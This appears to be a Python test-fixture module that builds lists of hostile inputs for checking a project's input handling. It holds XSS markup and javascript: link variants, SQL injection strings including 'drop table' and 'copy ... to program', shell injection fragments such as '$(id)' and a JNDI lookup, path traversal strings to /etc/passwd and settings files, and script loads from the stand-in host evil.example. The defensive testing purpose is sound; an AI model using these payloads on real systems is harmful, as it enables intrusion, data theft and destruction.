"""Hostile strings of our own, by class: markup that would run, statements that would be executed, paths that would leave."""

from itertools import product

CANARY = "xss7q"
RUN = f"alert('{CANARY}')"
_TAGS = ("img src=x", "svg", "body", "video src=x", "audio src=x", "iframe src=x", "object data=x", "input autofocus", "select autofocus", "textarea autofocus", "details open", "marquee",
         "a href=x", "form", "button", "style", "link rel=stylesheet href=x", "math", "embed src=x", "isindex", "x-any contenteditable")
_EVENTS = ("onerror", "onload", "onfocus", "onclick", "ontoggle", "onmouseover", "onanimationstart", "onpointerenter")
_HANDLERS = [f"<{tag} {event}={RUN}>" for tag, event in list(product(_TAGS, _EVENTS))[::2]]
_SCHEMES = ("javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "java\rscript:", " javascript:", "\u2028javascript:", "\u2029javascript:", "\u00a0javascript:", "\ufeffjavascript:",
            "\u3000javascript:", "\x01javascript:", "&#106;avascript:", "&#x6A;avascript&colon;", "javascript&#58;", "vbscript:", "data:text/html,", "data:text/html;base64,", "data:image/svg+xml,",
            "feed:javascript:", "view-source:javascript:", "jar:javascript:", "livescript:", "mhtml:", "blob:", "filesystem:", "//evil.example/", "\\\\evil.example\\", "https:evil.example", "java%0ascript:")
_LINKS = [f"<a href=\"{scheme}{RUN}\">x</a>" for scheme in _SCHEMES] + [f"[x]({scheme}{RUN})" for scheme in _SCHEMES] + [f"![x]({scheme}{RUN})" for scheme in _SCHEMES[:6]]
_OTHER = [
    f"<script>{RUN}</script>", f"<SCRIPT SRC=//evil.example/{CANARY}.js></SCRIPT>", f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"<script/x>{RUN}</script>", f"<script\n>{RUN}</script >",
    f"\"><script>{RUN}</script>", f"'><script>{RUN}</script>", f"</title><script>{RUN}</script>", f"</textarea><script>{RUN}</script>", f"</style><script>{RUN}</script>", f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>", f"</script><script>{RUN}</script>", f"<!--<img src=\"--><img src=x onerror={RUN}>", f"<![CDATA[<script>{RUN}</script>]]>", f"<?xml version=\"1.0\"?><script>{RUN}</script>",
    f"<svg><script>{RUN}</script></svg>", f"<svg><script href=data:,{RUN}></script>", f"<svg><animate onbegin={RUN} attributeName=x>", f"<svg><set attributeName=href to=javascript:{RUN}><a>x",
    f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'>", f"<svg><use href=\"data:image/svg+xml,{CANARY}#x\">", f"<svg><a xlink:href=javascript:{RUN}><text>x", f"<svg><style><img src=x onerror={RUN}>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>", f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x", f"<math href=javascript:{RUN}>x", f"<math><annotation-xml encoding=text/html><script>{RUN}</script>",
    f"<iframe srcdoc=\"<script>{RUN}</script>\">", f"<iframe srcdoc='&lt;script&gt;{RUN}&lt;/script&gt;'>", f"<iframe src=javascript:{RUN}>", f"<object data=javascript:{RUN}>", f"<embed src=javascript:{RUN}>",
    f"<form action=javascript:{RUN}><button>x", f"<button formaction=javascript:{RUN}>x", f"<meta http-equiv=refresh content=\"0;javascript:{RUN}\">", f"<base href=javascript:{RUN}//>", f"<link rel=import href=data:,{RUN}>",
    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">", f"<template><script>{RUN}</script></template>", f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>", f"<xmp><img src=x onerror={RUN}></xmp>",
    f"<p id='</p><img src=x onerror={RUN}>'>", f"<a title='--!><img src=x onerror={RUN}>'>", f"<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror={RUN}>'>",
    f"<img src=\"x` `<script>{RUN}</script>\"` `>", f"<img/src='x'/onerror={RUN}>", f"<img src=x:x onerror=\u2028{RUN}>", f"<img \x0csrc=x \x0conerror={RUN}>", f"<\x0bimg src=x onerror={RUN}>", f"<img src=x onerror\u00a0={RUN}>",
    f"＜script＞{RUN}＜/script＞", f"<ſcript>{RUN}</ſcript>", f"<İmg src=x onerror={RUN}>", f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-", f"%3Cscript%3E{RUN}%3C/script%3E", f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&#60;script&#62;{RUN}&#60;/script&#62;", f"<style>@import'//evil.example/{CANARY}';</style>", f"<p style=\"background:url(javascript:{RUN})\">", f"<p style=\"x:expression({RUN})\">",
    f"<p style=\"behavior:url(#{CANARY})\">", f"<p style=\"-moz-binding:url(//evil.example/{CANARY})\">", f"<style>*{{background:url('//evil.example/{CANARY}')}}</style>", f"<div style=\"width:1px;filter:glow onfilterchange={RUN}\">",
    f"{{{{constructor.constructor(\"{RUN}\")()}}}}", f"${{{RUN}}}", f"#{{{RUN}}}", f"<%= {RUN} %>", f"{{% raw %}}{CANARY}{{% endraw %}}", f"{{{{7*'7'}}}}{CANARY}", f"[[{CANARY}]]<v-html>", f"v-on:click=\"{RUN}\"", f"@click=\"{RUN}\"",
    f"<img src=x name=getElementById><form name=body>{CANARY}", f"<a id=farol><a id=farol name=identity href=data:{CANARY}>", f"<form id=location href=x>{CANARY}", f"\u202e<script>{RUN}</script>", f"\u200b<script>{RUN}</script>",
    f"';{RUN}//", f"\";{RUN}//", f"`;{RUN}//", f"\\\";{RUN}//", f"</p>{{\"@type\":\"{CANARY}\"}}", f"<portal src=javascript:{RUN}>", f"<dialog open onclose={RUN}>", f"<input type=image src=x onerror={RUN}>",
]
MARKUP = tuple(dict.fromkeys([*_HANDLERS, *_LINKS, *_OTHER]))

_TAUTOLOGIES = [f"{q}{p} {a} {q}1{q}={q}1{e}" for q, p, a, e in product(("'", '"', ""), ("", ")", "))"), ("or", "OR", "and", "||"), ("", " --", "#", "/*"))]
_STATEMENTS = [f"{q}{sep} {s}" for q, sep, s in product(("'", '"', "1", "\\'"), (";", " union", "||", " and"), (
    "drop table ticket--", "select pg_sleep(9)--", " select null,null--", "(select version())", "copy (select 1) to program 'id'", "update ticket set severity='P0'", "delete from message",
    "select current_setting('is_superuser')", "do $$ begin perform 1; end $$", "insert into staff values (1)", "select lo_import('/etc/passwd')"))]
_LIKES = ("%", "_", "%%%%", "\\", "\\%", "_%_%_%", "%' escape '!", "[a-z]%", "*", ".*", "(a+)+$", "\\x00", "$1", "$$", ":name", "{0}", "%s", "%(x)s", "?", "@@version", "\ufb06' or 1=1", "\u02bc or 1=1--", "\uff07 or 1=1--",
          "0;select 1", "1e309", "0x31", "1/0", "cast('a' as int)", "array[1]", "null", "'||'", "E'\\''", "U&'\\0027'", "&quot;", "%27", "%2527", "\\u0027", "--", "/**/", "';", "\"", "`", "(", ")")
_SHELL = ("; id", "| id", "`id`", "$(id)", "&& id", "|| id", "\nid", "${IFS}id", "{id,}", "> /tmp/x", "< /etc/passwd", "!!", "%COMSPEC%", "${jndi:ldap://evil.example/x}", "{{config}}", "<!--#exec cmd=id-->")
_UP = ("../", "..\\", "....//", "..;/", "%2e%2e/", "%2e%2e%2f", "..%252f", "..%c0%af", "..%ef%bc%8f", ".\u200b./", "..\u2215", "．．/", "/./../", "//", "file:///", "\\\\?\\", "~/", "./")
_NAMES = ("etc/passwd", "farol/kit/settings.py", "proc/self/environ", "windows/win.ini")
PATHS = (*(f"{up * 6}{name}" for up, name in product(_UP, _NAMES)),
         "con", "nul", "aux.txt", ".htaccess", "web.config", "/etc/passwd", "C:\\windows\\win.ini", "a/b", "a\\b", ".", "..", "...", " ", "\u202egnp.exe", "x" * 255, "a\nb", "a\r\nx: y", "a;b", "a\"b", "a%00.png", "CON.png", "\u200b.htaccess")
STATEMENTS = tuple(dict.fromkeys([*_TAUTOLOGIES, *_STATEMENTS, *_LIKES, *_SHELL]))
